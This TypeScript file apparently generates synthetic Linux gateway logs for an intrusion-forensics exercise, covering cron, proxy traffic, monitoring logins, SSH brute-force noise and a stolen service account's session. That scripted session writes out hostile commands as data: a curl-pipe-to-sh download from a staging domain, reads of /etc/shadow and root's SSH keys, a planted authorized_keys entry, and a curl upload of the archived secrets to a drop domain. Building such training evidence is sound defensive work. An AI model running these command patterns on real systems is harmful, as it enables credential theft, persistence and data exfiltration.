/**
 * LX-0009, the gateway: what runs there on any night (cron, proxy, monitoring logins, strangers at the SSH port) and the stolen
 * service account's half hour. Gives actions; `tables/syslog.ts` and `tables/audit-log.ts` write them down.
 */
import { LX_0009, MG_0005, WS_0142 } from '../world/hosts.ts';
import { WEB_SERVICES } from '../world/places.ts';
import type { Random } from '../core/random.ts';
import { HOUR_US, MINUTE_US, SECOND_US, epochMillis, on11 } from '../core/time.ts';
import { DOMAINS, EVIDENCE_END_US, HOST_LOGS_START_US } from './intrusion.ts';

export const LINUX_HOST = LX_0009;
/** All of cron's commands run in the daemon's own session. */
export const CRON_SESSION = 300;

export type LinuxUser = { readonly name: string; readonly uid: number };
export const ROOT: LinuxUser = { name: 'root', uid: 0 };
export const LINUX_SVC_BACKUP: LinuxUser = { name: 'svc-backup', uid: 1203 };
const MONITOR: LinuxUser = { name: 'svc-monitor', uid: 1204 };
const ORTIZ: LinuxUser = { name: 'adm-m.ortiz', uid: 1109 };

export type LinuxAction =
  | {
      readonly kind: 'message';
      readonly us: number;
      readonly process: string;
      readonly pid: number;
      readonly facility: string;
      readonly severity: string;
      readonly text: string;
    }
  | {
      readonly kind: 'login-failed';
      readonly us: number;
      readonly user: string;
      readonly known: boolean;
      readonly ip: string;
      readonly port: number;
      readonly pid: number;
    }
  | {
      readonly kind: 'session';
      readonly us: number;
      readonly endUs: number;
      readonly user: LinuxUser;
      readonly ip: string;
      readonly port: number;
      readonly method: 'password' | 'publickey';
      readonly pid: number;
      readonly session: number;
    }
  | {
      readonly kind: 'sudo';
      readonly us: number;
      readonly user: LinuxUser;
      readonly session: number;
      readonly shellPid: number;
      readonly pid: number;
      readonly argv: readonly string[];
      readonly cwd: string;
    }
  | {
      readonly kind: 'exec';
      readonly us: number;
      readonly user: LinuxUser;
      readonly session: number;
      readonly pid: number;
      readonly ppid: number;
      readonly exe: string;
      readonly argv: readonly string[];
      readonly cwd: string;
    };

/** The stolen account's commands, in order. The run at 22:30:05 is faster than anyone types. */
export const STOLEN_SUDO: readonly (readonly [string, readonly string[]])[] = [
  ['22:28:31.204', ['/usr/bin/id']],
  ['22:29:12.770', ['/bin/bash']],
  ['22:29:41.018', ['/bin/sh', '-c', `curl -fsSL http://${DOMAINS.stage}/s.sh | sh`]],
  ['22:30:05.102', ['/usr/bin/cat', '/etc/passwd']],
  ['22:30:05.377', ['/usr/bin/cat', '/etc/shadow']],
  ['22:30:05.690', ['/usr/bin/cat', '/etc/hosts']],
  ['22:30:05.944', ['/usr/bin/ls', '-la', '/root/.ssh']],
  ['22:30:06.231', ['/usr/sbin/ip', 'addr']],
  ['22:30:06.518', ['/usr/bin/ss', '-tnlp']],
  ['22:30:06.803', ['/usr/bin/ps', 'auxww']],
  ['22:30:07.095', ['/usr/bin/find', '/srv/backup', '-name', '*.conf']],
  ['22:30:07.360', ['/usr/bin/cat', '/srv/backup/targets.conf']],
  ['22:30:07.641', ['/usr/bin/crontab', '-l']],
  ['22:30:07.930', ['/usr/bin/last', '-n', '20']],
  ['22:30:08.204', ['/usr/bin/df', '-h']],
  ['22:31:26.555', ['/usr/bin/tee', '-a', '/root/.ssh/authorized_keys']],
  ['22:33:02.118', ['/usr/bin/tar', 'czf', '/tmp/.b.tgz', '/srv/backup/targets.conf', '/etc/shadow']],
];

export const STOLEN_SSH = { startUs: on11('22:27:52.610'), endUs: on11('22:34:20.048'), port: 51_844, pid: 21_840, session: 412, shellPid: 21_861 } as const;

export function linuxActions(random: Random): LinuxAction[] {
  const actions: LinuxAction[] = [];
  const hours = Math.floor((EVIDENCE_END_US - HOST_LOGS_START_US) / HOUR_US);
  let pid = 3_000;
  const nextPid = (): number => (pid += random.int(2, 19));
  const message = (us: number, process: string, own: number, facility: string, severity: string, text: string): void => {
    actions.push({ kind: 'message', us, process, pid: own, facility, severity, text });
  };

  // Cron and its commands.
  for (let us = HOST_LOGS_START_US + 17 * MINUTE_US; us < EVIDENCE_END_US; us += HOUR_US) {
    const own = nextPid();
    message(us + 1_000_000, 'CRON', own, 'authpriv', 'info', 'pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)');
    message(us + 1_004_000, 'CRON', own + 1, 'cron', 'info', '(root) CMD (   cd / && run-parts --report /etc/cron.hourly)');
    actions.push({
      kind: 'exec',
      us: us + 1_009_000,
      user: ROOT,
      session: CRON_SESSION,
      pid: own + 2,
      ppid: own + 1,
      exe: '/usr/bin/dash',
      argv: ['/bin/sh', '-c', '   cd / && run-parts --report /etc/cron.hourly'],
      cwd: '/root',
    });
    actions.push({
      kind: 'exec',
      us: us + 1_015_000,
      user: ROOT,
      session: CRON_SESSION,
      pid: own + 3,
      ppid: own + 2,
      exe: '/usr/bin/run-parts',
      argv: ['run-parts', '--report', '/etc/cron.hourly'],
      cwd: '/',
    });
    message(us + 1_300_000, 'CRON', own, 'authpriv', 'info', 'pam_unix(cron:session): session closed for user root');
    pid += 6;
  }
  for (let us = HOST_LOGS_START_US + 5 * MINUTE_US; us < EVIDENCE_END_US; us += 10 * MINUTE_US) {
    const own = nextPid();
    message(us + 1_000_000, 'CRON', own, 'cron', 'info', '(root) CMD (test -x /usr/local/bin/queue-depth && /usr/local/bin/queue-depth)');
    actions.push({
      kind: 'exec',
      us: us + 1_020_000,
      user: ROOT,
      session: CRON_SESSION,
      pid: own + 1,
      ppid: own,
      exe: '/usr/local/bin/queue-depth',
      argv: ['/usr/local/bin/queue-depth'],
      cwd: '/root',
    });
    pid += 3;
  }

  // The proxy.
  for (let index = 0; index < 1_450; index += 1) {
    const us = HOST_LOGS_START_US + random.int(0, hours * 3_600_000 - 1) * 1_000;
    const [ip, name] = random.weighted(WEB_SERVICES.map((entry) => [entry, entry[2]] as const));
    const client = `10.20.4.${random.pick([12, 17, 29, 33, 41, 52])}`;
    message(
      us,
      'squid',
      1_188,
      'local4',
      'info',
      `${epochMillis(us)} ${String(random.int(8, 900)).padStart(6, ' ')} ${client} TCP_TUNNEL/200 ${random.int(900, 90_000)} CONNECT ${name}:443 - HIER_DIRECT/${ip} -`,
    );
  }

  // Monitoring logs in every half hour.
  for (let us = HOST_LOGS_START_US + 9 * MINUTE_US, session = 310; us < EVIDENCE_END_US; us += 30 * MINUTE_US, session += 1) {
    actions.push({
      kind: 'session',
      us,
      endUs: us + random.int(2, 7) * SECOND_US,
      user: MONITOR,
      ip: MG_0005.ip,
      port: random.int(40_000, 60_000),
      method: 'publickey',
      pid: nextPid(),
      session: session >= 412 ? session + 5 : session,
    });
  }

  // Strangers.
  for (let index = 0; index < 190; index += 1) {
    const us = HOST_LOGS_START_US + random.int(0, hours * 3_600_000 - 1) * 1_000;
    actions.push({
      kind: 'login-failed',
      us,
      user: random.pick(['admin', 'root', 'test', 'oracle', 'ubuntu', 'pi']),
      known: false,
      ip: `192.0.2.${random.int(200, 250)}`,
      port: random.int(30_000, 60_000),
      pid: nextPid(),
    });
  }

  // The stolen account.
  for (const [clock, own] of [
    ['22:27:40.331', 21_812],
    ['22:27:44.902', 21_812],
  ] as const) {
    actions.push({ kind: 'login-failed', us: on11(clock), user: LINUX_SVC_BACKUP.name, known: true, ip: WS_0142.ip, port: 51_840, pid: own });
  }
  actions.push({
    kind: 'session',
    us: STOLEN_SSH.startUs,
    endUs: STOLEN_SSH.endUs,
    user: LINUX_SVC_BACKUP,
    ip: WS_0142.ip,
    port: STOLEN_SSH.port,
    method: 'password',
    pid: STOLEN_SSH.pid,
    session: STOLEN_SSH.session,
  });
  actions.push({
    kind: 'exec',
    us: STOLEN_SSH.startUs + 240_000,
    user: LINUX_SVC_BACKUP,
    session: STOLEN_SSH.session,
    pid: STOLEN_SSH.shellPid,
    ppid: STOLEN_SSH.pid,
    exe: '/usr/bin/bash',
    argv: ['-bash'],
    cwd: '/home/svc-backup',
  });
  let own = STOLEN_SSH.shellPid + 9;
  for (const [clock, argv] of STOLEN_SUDO) {
    actions.push({
      kind: 'sudo',
      us: on11(clock),
      user: LINUX_SVC_BACKUP,
      session: STOLEN_SSH.session,
      shellPid: STOLEN_SSH.shellPid,
      pid: own,
      argv,
      cwd: '/home/svc-backup',
    });
    if (argv[0] === '/bin/sh') {
      const shell = own + 1;
      actions.push({
        kind: 'exec',
        us: on11(clock) + 31_000,
        user: ROOT,
        session: STOLEN_SSH.session,
        pid: shell + 1,
        ppid: shell,
        exe: '/usr/bin/curl',
        argv: ['curl', '-fsSL', `http://${DOMAINS.stage}/s.sh`],
        cwd: '/home/svc-backup',
      });
      actions.push({
        kind: 'exec',
        us: on11(clock) + 33_000,
        user: ROOT,
        session: STOLEN_SSH.session,
        pid: shell + 2,
        ppid: shell,
        exe: '/usr/bin/dash',
        argv: ['sh'],
        cwd: '/home/svc-backup',
      });
      own += 4;
    }
    own += 4;
  }
  actions.push({
    kind: 'exec',
    us: on11('22:33:40.390'),
    user: LINUX_SVC_BACKUP,
    session: STOLEN_SSH.session,
    pid: own + 3,
    ppid: STOLEN_SSH.shellPid,
    exe: '/usr/bin/curl',
    argv: ['curl', '-s', '-T', '/tmp/.b.tgz', `https://${DOMAINS.drop}/up/b`],
    cwd: '/home/svc-backup',
  });

  // The administrator afterwards.
  actions.push({
    kind: 'session',
    us: on11('23:20:11.480'),
    endUs: on11('23:41:02.114'),
    user: ORTIZ,
    ip: MG_0005.ip,
    port: 50_112,
    method: 'publickey',
    pid: 22_990,
    session: 455,
  });
  ['/usr/bin/last', '/usr/bin/journalctl', '/usr/bin/cat'].forEach((command, index) => {
    const args = command.endsWith('journalctl') ? ['-u', 'ssh', '--since', 'today'] : command.endsWith('cat') ? ['/root/.ssh/authorized_keys'] : [];
    actions.push({
      kind: 'sudo',
      us: on11('23:21:30.000') + index * 95 * SECOND_US,
      user: ORTIZ,
      session: 455,
      shellPid: 23_010,
      pid: 23_030 + index * 6,
      argv: [command, ...args],
      cwd: '/home/adm-m.ortiz',
    });
  });
  return actions.filter((action) => action.us < EVIDENCE_END_US).sort((left, right) => left.us - right.us);
}
